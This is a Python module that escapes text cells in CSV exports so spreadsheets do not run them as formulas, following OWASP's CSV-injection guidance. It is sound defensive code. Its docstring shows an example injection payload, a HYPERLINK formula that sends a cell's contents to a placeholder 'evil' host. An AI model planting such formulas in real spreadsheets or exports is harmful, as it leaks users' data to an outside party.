"""CSV written for people: every text cell neutralised so a spreadsheet never runs it as a formula.

A project called `=HYPERLINK("http://evil/?"&A1)` or a key named `@SUM(A1:A9)` becomes a live formula when a
finance user opens an export in Excel, LibreOffice or Google Sheets. The OWASP rule
(https://owasp.org/www-community/attacks/CSV_Injection): a text cell starting with `=`, `+`, `-`, `@`, tab or
carriage return gets a leading `'`, which spreadsheets show as text. Numbers are left alone — a negative cost
stays a number, whether it arrives as a `Decimal` or as the string `"-1.50"`.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import IO, TYPE_CHECKING, Any

if TYPE_CHECKING:  # pandas only when a frame is written: the CLI imports this module and must start fast
    import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A plain decimal number written as text ("-1.50", "+3", "1e-6"): a spreadsheet reads it as a number, never as
# a formula, so it keeps its sign instead of turning into the text "'-1.50".
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """Returns `value` with a leading `'` if it is text a spreadsheet would run as a formula, else `value`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def frame_to_csv(frame: pd.DataFrame) -> str:
    """Returns `frame` as CSV text (header row, no index) with every text cell and column name neutralised."""
    import pandas as pd

    safe = frame.copy()
    safe.columns = [neutralise(str(name)) for name in frame.columns]
    for position, dtype in enumerate(frame.dtypes):
        # Only object/string columns can hold text; numeric columns are written as they are.
        if pd.api.types.is_object_dtype(dtype) or pd.api.types.is_string_dtype(dtype):
            safe.isetitem(position, frame.iloc[:, position].map(neutralise, na_action="ignore"))
    return safe.to_csv(index=False, lineterminator="\n")


def write_csv(handle: IO[str], header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> None:
    """Writes `header` then `rows` to the text `handle` as CSV, every text cell neutralised."""
    writer = csv.writer(handle, lineterminator="\n")
    writer.writerow([neutralise(cell) for cell in header])
    for row in rows:
        writer.writerow([neutralise(cell) for cell in row])


def rows_to_csv(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> str:
    """Returns `header` and `rows` as neutralised CSV text (see `write_csv`)."""
    buffer = io.StringIO()
    write_csv(buffer, header, rows)
    return buffer.getvalue()
